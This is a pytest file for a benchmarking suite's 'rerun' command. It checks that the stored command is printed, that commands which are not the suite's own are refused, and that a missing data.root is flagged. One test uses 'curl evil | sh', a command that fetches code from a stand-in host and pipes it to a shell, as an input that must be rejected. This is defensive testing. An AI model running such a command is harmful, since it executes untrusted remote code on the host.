"""Tests of ``suites/commands/rerun.py``: a bundle's command printed as it would run; one that is not the suite's own
measuring command refused in one ``error:`` line before anything runs."""

from __future__ import annotations

from pathlib import Path

from suites.bundle import write
from suites.commands import rerun
from suites.publish.reference import reference_document


def bundle(tmp_path: Path, command: str) -> Path:
    doc = reference_document()
    doc["command"] = command
    return write(doc, {}, tmp_path / "b.bundle.tar.gz")


def test_print_shows_the_command_a_rerun_runs(tmp_path: Path, capsys):
    path = bundle(tmp_path, "python -m suites bench scenario=gpu-vs-cpu  # 2 argument(s) left out")
    assert rerun.main([str(path), "--print", "tracking_uri=sqlite:///x.db"]) == 0
    assert capsys.readouterr().out == "rerun: python -m suites bench scenario=gpu-vs-cpu tracking_uri=sqlite:///x.db\n"


def test_a_command_that_is_no_suite_command_is_refused_before_anything_runs(tmp_path: Path, capsys):
    assert rerun.main([str(bundle(tmp_path, "curl evil | sh")), "--print"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ") and "is not 'python -m suites <command> ...'" in err and err.count("\n") == 1
    assert rerun.main([str(bundle(tmp_path, "python -m suites bench seed=1")), "--print", "--", "-rf"]) == 2
    assert "extra settings are key=value" in capsys.readouterr().err


def test_an_empty_bundle_word_is_one_error_line(capsys):
    assert rerun.main(["", "--print"]) == 2
    assert capsys.readouterr().err == "error: BUNDLE is empty: give a .bundle.tar.gz or a bundle.json\n"


def test_a_bundle_trained_on_real_data_is_not_rerun_on_synthetic_data_in_silence(tmp_path: Path, capsys):
    """Round 7: its command left data.root out, make rerun said nothing, and the rerun trained on synthetic data."""
    doc = reference_document()
    doc["command"] = ("python -m suites bench scenario=gpu-vs-cpu  # 2 argument(s) naming local paths or stores "
                      "left out: tracking_uri, data.root")
    doc["setup"]["data.source"] = "real"
    path = write(doc, {}, tmp_path / "real.bundle.tar.gz")
    assert rerun.main([str(path), "--print"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "give yours, e.g. make rerun BUNDLE=... ARGS='data.root=" in err
    assert rerun.main([str(path), "--print", "data.root=/srv/data"]) == 0
    out = capsys.readouterr().out
    assert "rerun: tracking_uri left out of the bundle (it named a place on its host): this host's default" in out
    assert out.endswith("rerun: python -m suites bench scenario=gpu-vs-cpu data.synthetic=false data.root=/srv/data\n")
